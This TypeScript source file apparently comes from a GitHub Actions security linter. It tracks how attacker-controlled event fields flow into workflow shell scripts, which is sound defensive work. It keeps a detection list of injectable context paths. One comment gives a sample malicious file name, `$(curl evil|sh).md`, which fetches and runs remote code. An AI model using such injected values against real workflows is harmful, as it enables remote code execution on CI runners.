import {
  analyseExpression,
  type ContextPath,
  type EmbeddedExpression,
  type ExpressionFacts,
  findExpressions,
  pathMatches,
} from "../../formats/expressions.js";
import { type EnvFile, type FileWrite, fileWrites } from "../../formats/shell/env-files.js";
import { scalarText } from "../../formats/yaml.js";
import { actionName, type Job, type Step, type Workflow } from "./model.js";

/**
 * Which values an outsider controls, and where they flow. Sources are event
 * fields anyone can write (titles, bodies, branch names, commit messages and
 * author names); they flow through `env:` at every level, through step
 * outputs set from them, through `$GITHUB_ENV`, and through job outputs into
 * `needs.*`. Numbers, SHAs and ids are never sources.
 */

/**
 * Event fields an outsider sets (after actionlint's list and the free-text
 * fields of zizmor's `arbitrary` contexts). zizmor marks every string of the
 * webhook schemas `arbitrary`; logins, repository names and topics are left
 * out here because GitHub restricts them to characters that cannot break out
 * of a shell word.
 */
export const ATTACKER_CONTROLLED: readonly string[] = [
  "github.head_ref",
  "github.event.issue.title",
  "github.event.issue.body",
  "github.event.pull_request.title",
  "github.event.pull_request.body",
  "github.event.pull_request.head.ref",
  "github.event.pull_request.head.label",
  "github.event.pull_request.head.repo.default_branch",
  "github.event.pull_request.head.repo.description",
  "github.event.pull_request.head.repo.homepage",
  "github.event.comment.body",
  "github.event.review.body",
  "github.event.review_comment.body",
  "github.event.discussion.title",
  "github.event.discussion.body",
  "github.event.answer.body",
  // `edited` events carry the text before the edit.
  "github.event.changes.title.from",
  "github.event.changes.body.from",
  "github.event.pages.*.page_name",
  "github.event.pages.*.title",
  "github.event.pages.*.summary",
  "github.event.commits.*.message",
  "github.event.commits.*.author.email",
  "github.event.commits.*.author.name",
  "github.event.commits.*.committer.email",
  "github.event.commits.*.committer.name",
  "github.event.head_commit.message",
  "github.event.head_commit.author.email",
  "github.event.head_commit.author.name",
  "github.event.head_commit.committer.email",
  "github.event.head_commit.committer.name",
  "github.event.workflow_run.head_branch",
  "github.event.workflow_run.display_title",
  "github.event.workflow_run.head_commit.message",
  "github.event.workflow_run.head_commit.author.email",
  "github.event.workflow_run.head_commit.author.name",
  "github.event.workflow_run.head_commit.committer.email",
  "github.event.workflow_run.head_commit.committer.name",
  "github.event.workflow_run.head_repository.description",
  "github.event.workflow_run.pull_requests.*.head.ref",
  // A merge queue's commit message carries the pull request's title and body.
  "github.event.merge_group.head_commit.message",
  "github.event.merge_group.head_commit.author.email",
  "github.event.merge_group.head_commit.author.name",
  "github.event.merge_group.head_commit.committer.email",
  "github.event.merge_group.head_commit.committer.name",
];

const INPUT_PATTERNS = ["inputs.*", "github.event.inputs.*", "github.event.client_payload.*"];

const attackerPatterns = ATTACKER_CONTROLLED.map((p) => p.split("."));
const inputPatterns = INPUT_PATTERNS.map((p) => p.split("."));

/**
 * Actions whose outputs carry text from the pull request itself: changed file
 * names and branch names are chosen by whoever opens it (a file may be named
 * `$(curl evil|sh).md`).
 */
export const TAINTED_ACTION_OUTPUTS: ReadonlyMap<string, string> = new Map([
  ["tj-actions/changed-files", "file names in the pull request"],
  ["tj-actions/branch-names", "the pull request's branch name"],
  ["jitterbit/get-changed-files", "file names in the pull request"],
  ["dorny/paths-filter", "file names in the pull request"],
]);

/** A tainted value and the chain it came through, e.g. `env.TITLE` ← `github.event.issue.title`. */
export interface TaintSource {
  /** The attacker-controlled origin: a dotted context path, or a description when `described`. */
  origin: string;
  /** `origin` is prose (an action's outputs), not a context path. */
  described?: boolean;
  /** Intermediate names, outermost first (`env.TITLE`, `steps.meta.outputs.title`). */
  via: string[];
}

export interface TaintedExpression {
  expression: EmbeddedExpression;
  facts: ExpressionFacts;
  sources: TaintSource[];
}

export interface TaintOptions {
  /** `actions.untrusted-inputs`: treat `inputs.*` as attacker-controlled. */
  untrustedInputs: boolean;
}

const MAX_DEPTH = 8;
const MAX_VIA = 3;
/** Tainted command-file writes kept per step (a generated script can hold thousands). */
const MAX_TAINTED_WRITES = 100;

export function describeSource(source: TaintSource): string {
  const chain = [
    ...source.via.map((s) => `\`${s}\``),
    source.described ? source.origin : `\`${source.origin}\``,
  ];
  return chain.length === 1 ? chain[0]! : `${chain[0]} (from ${chain.slice(1).join(" ← ")})`;
}

/** What carries the attacker's text on a script line. */
export type TaintCarrier =
  | { kind: "expression"; facts: ExpressionFacts /** As written in the script. */; raw: string }
  | { kind: "variable"; name: string }
  | { kind: "event-file"; filter: string };

/** A script line that sends attacker text to `$GITHUB_ENV` / `$GITHUB_PATH` / `$GITHUB_OUTPUT`. */
export interface TaintedWrite {
  write: FileWrite;
  carrier: TaintCarrier;
  source: TaintSource;
}

interface WriteAnalysis {
  tainted: TaintedWrite[];
  /** Names written with attacker text, per file (`*`: a tainted write whose name cannot be read). */
  names: Record<"GITHUB_ENV" | "GITHUB_OUTPUT", Map<string, TaintSource>>;
}

const NO_WRITES: WriteAnalysis = { tainted: [], names: { GITHUB_ENV: new Map(), GITHUB_OUTPUT: new Map() } };

export class TaintModel {
  private readonly stepIds = new Map<Job, Map<string, Step[]>>();
  private readonly stepOutputs = new Map<Step, Map<string, TaintSource>>();
  private readonly envCache = new Map<string, Map<string, TaintSource>>();
  private readonly stepEnvWrites = new Map<Job, Array<Map<string, TaintSource>>>();
  /** Indices of the steps of a job that write attacker text to `$GITHUB_ENV`. */
  private readonly envWriters = new Map<Job, number[]>();
  private readonly writeAnalyses = new Map<Step, WriteAnalysis>();
  private readonly jobOutputs = new Map<string, Map<string, TaintSource> | "computing">();

  constructor(
    readonly wf: Workflow,
    readonly options: TaintOptions,
  ) {}

  /** Is this path, on its own, an attacker-controlled value (or an object containing one)? */
  originOf(path: ContextPath): string | undefined {
    for (const pattern of attackerPatterns) {
      if (pathMatches(path, pattern, true)) return path.join(".");
    }
    if (this.options.untrustedInputs) {
      for (const pattern of inputPatterns) if (pathMatches(path, pattern, true)) return path.join(".");
    }
    return undefined;
  }

  /** Every `${{ }}` in `text` whose value can carry attacker text, evaluated inside `job`/`step`. */
  taintedExpressions(text: string, job?: Job, step?: Step): TaintedExpression[] {
    const out: TaintedExpression[] = [];
    for (const expression of findExpressions(text)) {
      const facts = analyseExpression(expression.body);
      const sources = facts.values.flatMap((p) => this.sourcesOf(p, job, step, 0));
      if (sources.length > 0) out.push({ expression, facts, sources });
    }
    return out;
  }

  /** Tainted shell variables (`$TITLE`, `${TITLE}`) referenced in a script line. */
  taintedShellVars(
    line: string,
    job?: Job,
    step?: Step,
    locals?: ReadonlyMap<string, TaintSource>,
  ): Array<{ name: string; source: TaintSource }> {
    if (!line.includes("$")) return [];
    const env = this.envInScope(job, step, true);
    const out: Array<{ name: string; source: TaintSource }> = [];
    for (const m of line.matchAll(/\$(?:\{([A-Za-z_][A-Za-z0-9_]*)[}:#%/]|([A-Za-z_][A-Za-z0-9_]*))/g)) {
      const name = m[1] ?? m[2]!;
      const source = locals?.get(name) ?? env.get(name);
      if (source) out.push({ name, source });
    }
    return out;
  }

  /**
   * Lines of a step's `run:` script that write attacker text to a command
   * file, directly or through a redirected block, `exec` or a heredoc.
   */
  taintedWrites(job: Job, step: Step): TaintedWrite[] {
    return this.analyseWrites(job, step).tainted;
  }

  /**
   * What on a script line carries attacker text: a `${{ }}` (always: Actions
   * substitutes it before the shell runs), else, where the shell expands the
   * line, a tainted variable or a field read from the event payload file.
   */
  private lineTaint(
    text: string,
    job: Job,
    step: Step,
    expands: boolean,
    locals: ReadonlyMap<string, TaintSource>,
  ): { carrier: TaintCarrier; source: TaintSource } | undefined {
    const expr = text.includes("${{") ? this.taintedExpressions(text, job, step)[0] : undefined;
    if (expr)
      return {
        carrier: {
          kind: "expression",
          facts: expr.facts,
          raw: text.slice(expr.expression.start, expr.expression.end),
        },
        source: expr.sources[0]!,
      };
    if (!expands) return undefined;
    const shell = this.taintedShellVars(text, job, step, locals)[0];
    if (shell) return { carrier: { kind: "variable", name: shell.name }, source: shell.source };
    const read = this.eventFileRead(text);
    if (read) return { carrier: { kind: "event-file", filter: read.filter }, source: read.source };
    return undefined;
  }

  /**
   * `jq -r .pull_request.head.ref "$GITHUB_EVENT_PATH"` (or `cat` of the whole
   * file) reads the event payload: the same attacker text as `github.event.*`.
   */
  private eventFileRead(text: string): { filter: string; source: TaintSource } | undefined {
    if (!text.includes("GITHUB_EVENT_PATH")) return undefined;
    if (!/\b(jq|yq|cat|node|python3?|ruby|perl)\b|<\s*["']?\$\{?GITHUB_EVENT_PATH/.test(text))
      return undefined;
    const via = "$GITHUB_EVENT_PATH";
    let filters = 0;
    for (const m of text.matchAll(/(?<![\w$}./-])((?:\.[A-Za-z_][\w]*|\.?\[\s*(?:\d*|"[^"\]]*")\s*\])+)/g)) {
      if (++filters > 50) break;
      const filter = m[1]!;
      const path = payloadPath(filter);
      if (path.length === 0) continue;
      const origin = this.originOfPayload(path);
      if (origin) return { filter, source: { origin, via: [via] } };
    }
    // No field named: the whole payload (`cat "$GITHUB_EVENT_PATH"`, `jq . …`) contains every title and body.
    if (filters === 0 || /(?:^|[\s'"])\.(?:[\s'"]|$)/.test(text))
      return { filter: ".", source: { origin: "github.event", via: [via] } };
    return undefined;
  }

  /** Is `github.event.<path>` attacker text, or an object holding some, or a member of such text? */
  private originOfPayload(path: readonly string[]): string | undefined {
    const full = ["github", "event", ...path];
    for (let n = full.length; n >= 3; n--) {
      const origin = this.originOf(full.slice(0, n));
      // A shorter prefix counts only when it is itself attacker text (`.title | ascii_downcase`), not an object holding some.
      if (
        origin &&
        (n === full.length ||
          attackerPatterns.some((p) => p.length === n && pathMatches(full.slice(0, n), p)))
      )
        return full.join(".");
    }
    return full.length === 2 ? "github.event" : undefined;
  }

  private sourcesOf(
    path: ContextPath,
    job: Job | undefined,
    step: Step | undefined,
    depth: number,
  ): TaintSource[] {
    if (depth > MAX_DEPTH) return [];
    const origin = this.originOf(path);
    if (origin) return [{ origin, via: [] }];
    const [root, second, third, fourth] = path;
    if (root === "env") {
      const env = this.envInScope(job, step, true, depth);
      if (second === undefined || second === "*") return [...env.values()].map((s) => via(s, "env"));
      const hit = [...env.entries()].find(([k]) => k.toLowerCase() === second);
      return hit ? [via(hit[1], `env.${hit[0]}`)] : [];
    }
    if (root === "steps" && job && second !== undefined && (third === undefined || third === "outputs")) {
      const found: TaintSource[] = [];
      for (const [id, tainted] of this.outputsOfSteps(job, step, second)) {
        for (const [name, source] of tainted) {
          if (fourth === undefined || fourth === "*" || name === "*" || name === fourth) {
            found.push(via(source, `steps.${id}.outputs.${fourth ?? name}`));
          }
        }
      }
      return found;
    }
    if (root === "needs" && second !== undefined && (third === undefined || third === "outputs")) {
      const jobs = second === "*" ? this.wf.jobs : this.wf.jobs.filter((j) => j.id.toLowerCase() === second);
      const found: TaintSource[] = [];
      for (const j of jobs) {
        const outputs = this.outputsOfJob(j, depth + 1);
        for (const [name, source] of outputs) {
          if (fourth === undefined || fourth === "*" || name === fourth) {
            found.push(via(source, `needs.${j.id}.outputs.${name}`));
          }
        }
      }
      return found;
    }
    return [];
  }

  /**
   * Tainted environment variables visible in a step: workflow, job and step
   * `env:` (innermost wins), plus variables earlier steps wrote to `$GITHUB_ENV`
   * when `withWrites` (they join both the shell's environment and `env.*`).
   */
  private envInScope(job: Job | undefined, step: Step | undefined, withWrites: boolean, depth = 0) {
    const key = `${job ? this.wf.jobs.indexOf(job) : -1}/${step?.index ?? -1}/${withWrites}`;
    // Earlier steps' $GITHUB_ENV writes are worked out first, in step order, so none sees a half-built scope.
    if (withWrites && job && step && !this.envCache.has(key)) this.envWrites(job);
    const cached = this.envCache.get(key);
    if (cached) return cached;
    const out = new Map<string, TaintSource>();
    this.envCache.set(key, out);
    const layer = (entries: Workflow["env"], evalJob: Job | undefined, evalStep: Step | undefined) => {
      for (const e of entries) {
        const text = scalarText(e.value);
        if (text === undefined) {
          out.delete(e.key);
          continue;
        }
        const sources = this.exprSources(text, evalJob, evalStep, depth + 1);
        if (sources.length > 0) out.set(e.key, sources[0]!);
        else out.delete(e.key);
      }
    };
    layer(this.wf.env, undefined, undefined);
    if (job) {
      layer(job.env, undefined, undefined);
      if (withWrites && step) {
        const writes = this.envWrites(job);
        for (const i of this.envWriters.get(job) ?? []) {
          if (i >= step.index) break;
          for (const [k, v] of writes[i] ?? []) out.set(k, v);
        }
      }
      // A step's env: is evaluated before the step runs: only earlier steps' outputs are visible.
      if (step) layer(step.env, job, step);
    }
    return out;
  }

  private exprSources(
    text: string,
    job: Job | undefined,
    step: Step | undefined,
    depth: number,
  ): TaintSource[] {
    if (depth > MAX_DEPTH || !text.includes("${{")) return [];
    return findExpressions(text).flatMap((e) =>
      analyseExpression(e.body).values.flatMap((p) => this.sourcesOf(p, job, step, depth)),
    );
  }

  /** Outputs of the steps before `before` in a job that carry attacker text, by step id. */
  private outputsOfSteps(
    job: Job,
    before: Step | undefined,
    id: string,
  ): Map<string, Map<string, TaintSource>> {
    let ids = this.stepIds.get(job);
    if (!ids) {
      ids = new Map();
      this.stepIds.set(job, ids);
      for (const step of job.steps) {
        if (!step.id) continue;
        const k = step.id.toLowerCase();
        const list = ids.get(k);
        if (list) list.push(step);
        else ids.set(k, [step]);
      }
    }
    const out = new Map<string, Map<string, TaintSource>>();
    const lists = id === "*" ? [...ids.entries()] : ids.has(id) ? [[id, ids.get(id)!] as const] : [];
    for (const [k, steps] of lists) {
      // The last step with that id before `before` is the one whose outputs are read.
      let visible: Step | undefined;
      for (const st of steps) if (!before || st.index < before.index) visible = st;
      if (!visible) continue;
      const outputs = this.outputsOf(job, visible);
      if (outputs.size > 0) out.set(k, outputs);
    }
    return out;
  }

  private outputsOf(job: Job, step: Step): Map<string, TaintSource> {
    const cached = this.stepOutputs.get(step);
    if (cached) return cached;
    const out = new Map<string, TaintSource>();
    this.stepOutputs.set(step, out);
    for (const [name, source] of this.analyseWrites(job, step).names.GITHUB_OUTPUT) out.set(name, source);
    const script = scalarText(step.run);
    // The deprecated `::set-output name=x::value` workflow command, still honoured when printed.
    if (script?.includes("::set-output")) {
      for (const m of script.matchAll(/::set-output\s+name=([\w-]+)::([^\n]*)/g)) {
        const t = this.lineTaint(m[2]!, job, step, true, new Map());
        if (t) out.set(m[1]!.toLowerCase(), t.source);
      }
    }
    const uses = scalarText(step.uses)?.toLowerCase() ?? "";
    const described = TAINTED_ACTION_OUTPUTS.get(actionName(uses));
    if (described) out.set("*", { origin: `${described} (${actionName(uses)})`, via: [], described: true });
    if (uses.startsWith("actions/github-script@")) {
      for (const [name, source] of this.githubScriptWrites(job, step).outputs) out.set(name, source);
    }
    return out;
  }

  /**
   * `actions/github-script` code: `core.setOutput('x', …)` and the value it
   * `return`s (output `result`) set outputs; `core.exportVariable('X', …)` sets
   * environment variables of later steps. Each is tainted when the value reads
   * `context.payload.<attacker text>`, a tainted `${{ }}`, or a local variable
   * assigned from one.
   */
  private githubScriptWrites(
    job: Job,
    step: Step,
  ): { outputs: Map<string, TaintSource>; env: Map<string, TaintSource> } {
    const outputs = new Map<string, TaintSource>();
    const env = new Map<string, TaintSource>();
    const code = scalarText(step.with.find((e) => e.key === "script")?.value);
    if (!code) return { outputs, env };
    const locals = new Map<string, TaintSource>();
    const valueTaint = (value: string): TaintSource | undefined => {
      for (const m of value.matchAll(
        /context\.payload((?:\??\.[A-Za-z_$][\w$]*|\[\s*(?:\d+|'[^']*'|"[^"]*")\s*\])*)/g,
      )) {
        const origin = this.originOfPayload(payloadPath(m[1]!));
        if (origin) return { origin, via: [] };
      }
      const expr = this.exprSources(value, job, step, 1)[0];
      if (expr) return expr;
      for (const m of value.matchAll(/[A-Za-z_$][\w$]*/g)) {
        const local = locals.get(m[0]);
        if (local) return local;
      }
      return undefined;
    };
    for (const m of code.matchAll(
      /(?:\b(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=|\b(setOutput|exportVariable)\(\s*['"`]([\w-]+)['"`]\s*,|(?:^|[\s;{}])return\b)([^\n;]*)/g,
    )) {
      const t = valueTaint(m[4]!);
      if (m[1]) {
        if (t) locals.set(m[1], t);
        else locals.delete(m[1]);
      } else if (m[2] === "setOutput") {
        if (t) outputs.set(m[3]!.toLowerCase(), t);
      } else if (m[2] === "exportVariable") {
        if (t) env.set(m[3]!, t);
      } else if (t) {
        outputs.set("result", t);
      }
    }
    return { outputs, env };
  }

  /** Variables each step of a job writes to `$GITHUB_ENV` from attacker text, by step index. */
  private envWrites(job: Job): Array<Map<string, TaintSource>> {
    let writes = this.stepEnvWrites.get(job);
    if (!writes) {
      writes = [];
      const writers: number[] = [];
      this.stepEnvWrites.set(job, writes);
      this.envWriters.set(job, writers);
      for (const step of job.steps) {
        const names = new Map(this.analyseWrites(job, step).names.GITHUB_ENV);
        if ((scalarText(step.uses) ?? "").toLowerCase().startsWith("actions/github-script@")) {
          for (const [k, v] of this.githubScriptWrites(job, step).env) names.set(k, v);
        }
        writes[step.index] = names;
        if (names.size > 0) writers.push(step.index);
      }
    }
    return writes;
  }

  /**
   * The tainted lines a step's script writes to the command files, and the
   * names they set: `name=value` lines, and `name<<EOF` … `EOF` blocks (every
   * tainted line between the two sets `name`). A tainted write whose name
   * cannot be read taints every name (`*`). Shell variables assigned from
   * attacker text earlier in the script (`B=$(jq … "$GITHUB_EVENT_PATH")`)
   * carry it too.
   */
  private analyseWrites(job: Job, step: Step): WriteAnalysis {
    // Earlier steps first (their $GITHUB_ENV writes are this step's environment).
    this.envWrites(job);
    const cached = this.writeAnalyses.get(step);
    if (cached) return cached;
    this.writeAnalyses.set(step, NO_WRITES);
    const script = scalarText(step.run);
    const writes = script ? fileWrites(script) : [];
    if (!script || writes.length === 0) return NO_WRITES;
    const result: WriteAnalysis = { tainted: [], names: { GITHUB_ENV: new Map(), GITHUB_OUTPUT: new Map() } };
    const locals = new Map<string, TaintSource>();
    const lines = script.split("\n");
    const blocks: Partial<Record<EnvFile, { name: string; delim: string }>> = {};
    let w = 0;
    const assigns =
      /^[ \t]*(?:export[ \t]+|local[ \t]+|readonly[ \t]+|declare[ \t]+(?:-\w+[ \t]+)*)?[A-Za-z_]\w*=/m.test(
        script,
      );
    for (let i = 0; i < lines.length && w < writes.length; i++) {
      const text = lines[i]!;
      if (assigns) {
        const a = /^\s*(?:export\s+|local\s+|readonly\s+|declare\s+(?:-\w+\s+)*)?([A-Za-z_]\w*)=(.*)$/.exec(
          text,
        );
        if (a) {
          const t = this.lineTaint(a[2]!, job, step, true, locals);
          if (t) locals.set(a[1]!, t.source);
          else locals.delete(a[1]!);
        }
      }
      while (w < writes.length && writes[w]!.line === i) {
        const write = writes[w++]!;
        const t = this.lineTaint(write.text, job, step, write.expands, locals);
        if (t && result.tainted.length < MAX_TAINTED_WRITES) result.tainted.push({ write, ...t });
        if (write.file === "GITHUB_PATH") continue;
        const names = result.names[write.file];
        const key = (n: string) => (write.file === "GITHUB_OUTPUT" ? n.toLowerCase() : n);
        const declared = [...write.text.matchAll(/(?:^|["'\s])([A-Za-z_][\w-]*)(?:=|<<\s*['"]?([\w-]+))/g)];
        const open = blocks[write.file];
        if (
          open &&
          !declared.length &&
          new RegExp(`(?:^|["'\\s])${escapeRegExp(open.delim)}(?:["'\\s]|$)`).test(write.text)
        ) {
          blocks[write.file] = undefined;
          continue;
        }
        for (const d of declared) if (d[2]) blocks[write.file] = { name: d[1]!, delim: d[2] };
        if (!t) continue;
        if (declared.length > 0) for (const d of declared) names.set(key(d[1]!), t.source);
        else names.set(key(open?.name ?? "*"), t.source);
      }
    }
    this.writeAnalyses.set(step, result);
    return result;
  }

  private outputsOfJob(job: Job, depth: number): Map<string, TaintSource> {
    const cached = this.jobOutputs.get(job.id);
    if (cached === "computing") return new Map();
    if (cached) return cached;
    this.jobOutputs.set(job.id, "computing");
    const out = new Map<string, TaintSource>();
    for (const e of job.outputs) {
      const text = scalarText(e.value);
      const sources = text ? this.exprSources(text, job, undefined, depth + 1) : [];
      if (sources.length > 0) out.set(e.key.toLowerCase(), sources[0]!);
    }
    this.jobOutputs.set(job.id, out);
    return out;
  }
}

function via(source: TaintSource, name: string): TaintSource {
  // Messages name the nearest hops only; a long chain (step after step) stays O(1) in memory.
  return { ...source, via: [name, ...source.via].slice(0, MAX_VIA) };
}

/** `.pull_request.head.ref`, `[0]`, `["title"]`, `?.title` as lower-case path segments (`*` for an index). */
function payloadPath(accessors: string): string[] {
  const out: string[] = [];
  for (const m of accessors.matchAll(/\.([A-Za-z_$][\w$]*)|\[\s*(?:(\d*)|'([^']*)'|"([^"]*)")\s*\]/g)) {
    const name = m[1] ?? m[3] ?? m[4];
    out.push(name !== undefined ? name.toLowerCase() : "*");
  }
  return out;
}

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}
